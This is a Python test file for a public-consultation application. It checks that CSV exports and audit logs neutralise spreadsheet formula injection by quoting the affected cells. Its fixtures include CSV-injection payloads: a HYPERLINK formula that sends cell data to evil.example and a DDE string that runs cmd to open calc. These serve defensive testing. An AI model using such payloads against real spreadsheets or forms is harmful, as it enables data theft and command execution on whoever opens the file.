"""CSV injection: text that a citizen or a staff member typed reaches the CSV exports (the
trace, over HTTP and from the command line, and a case's audit log); a cell that a
spreadsheet would run as a formula starts with a single quote instead (OWASP)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from hoering.accounts.models import Role
from hoering.core.csv_safe import FORMULA_PREFIXES, spreadsheet_safe
from hoering.core.db import db
from hoering.public.operations import PublicSubmission, submit_public_response
from tests.conftest import login
from tests.public.factories import public_consultation

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
SUM = "@SUM(1+1)"
DDE = "+2+3+cmd|' /C calc'!A0"
REQUEST_ID = "-cmd.calc.A0"  # the X-Request-ID header the app records beside each event


@pytest.mark.parametrize(("cell", "expected"), [
    (HYPERLINK, "'" + HYPERLINK), (SUM, "'" + SUM), (DDE, "'" + DDE), ("-1", "'-1"),
    ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("Almindelig tekst", "Almindelig tekst"),
    ("", ""), ("a=b", "a=b"), ("'=1", "'=1"),
])
def test_a_cell_that_would_be_a_formula_gets_a_quote_in_front(cell, expected):
    assert spreadsheet_safe(cell) == expected


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    cells = [cell for row in rows for cell in row.values()]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


@pytest.fixture
def injected(client, make_user):
    """A citizen's response with formulas as remarks, answered with a formula by a staff
    member whose name and e-mail are formulas too, from a request with a formula-like id."""
    consultation = public_consultation()
    submission = PublicSubmission(
        token="f" * 32, name="-Karen", email="karen@example.dk", organisation=DDE,
        general_text=HYPERLINK, section_texts={consultation.version.sections[0].id: SUM},
    )
    response, _created = submit_public_response(consultation, submission)
    db.session.commit()
    staff = make_user(Role.STAFF, name=SUM, email="=hyperlink@evil.example")
    login(client, staff)
    remark = next(r for r in response.remarks if r.original_text == SUM)
    answered = client.post(f"/hoeringer/bemaerkninger/{remark.id}/svar",
                           data={"text": HYPERLINK, "disposition": "noted", "lock_version": ""},
                           headers={"X-Request-ID": REQUEST_ID})
    assert answered.status_code == 302, answered.text
    client.post("/logout")
    return consultation


def test_the_trace_export_neutralises_formulas(client, make_user, injected):
    login(client, make_user(Role.STAFF))
    response = client.get(f"/hoeringer/{injected.id}/spor.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _assert_no_formula(rows)
    assert {row["original_wording"] for row in rows} == {"'" + HYPERLINK, "'" + SUM}
    answered = next(row for row in rows if row["reply"])
    assert answered["reply"] == "'" + HYPERLINK
    assert answered["reply_author"] == "'" + SUM
    assert {row["body_name"] for row in rows} == {"'" + DDE}


def test_the_trace_cli_neutralises_formulas(app, injected, tmp_path):
    output = tmp_path / "spor.csv"
    result = app.test_cli_runner().invoke(args=[
        "trace", "export", str(injected.id), "--format", "csv", "--output", str(output)])
    assert result.exit_code == 0, result.output
    with output.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    _assert_no_formula(rows)
    assert {row["original_wording"] for row in rows} == {"'" + HYPERLINK, "'" + SUM}


def test_the_case_log_csv_neutralises_formulas(client, make_user, injected):
    login(client, make_user(Role.AUDITOR))
    policy_id = injected.version.policy_id
    response = client.get(f"/revision/politikker/{policy_id}/log.csv")
    assert response.status_code == 200
    rows = _rows(response.get_data(as_text=True))
    _assert_no_formula(rows)
    reply = next(row for row in rows if row["action"].startswith("reply:"))
    assert reply["actor_label"] == "'=hyperlink@evil.example"
    assert reply["request_id"] == "'" + REQUEST_ID


def test_every_csv_the_app_writes_goes_through_to_csv():
    """The one writer (``to_csv``) makes every cell safe: a new CSV writer elsewhere must
    use it too (or ``spreadsheet_safe``), so this test lists the modules that import csv."""
    package = Path(__file__).resolve().parent.parent / "hoering"
    writers = {str(path.relative_to(package.parent)) for path in package.rglob("*.py")
               if re.search(r"^\s*(import csv|from csv import)", path.read_text("utf-8"),
                            re.MULTILINE)}
    # the importer (hoering/core/csv_import.py) only reads
    assert writers == {"hoering/trace/exports.py", "hoering/core/csv_import.py"}
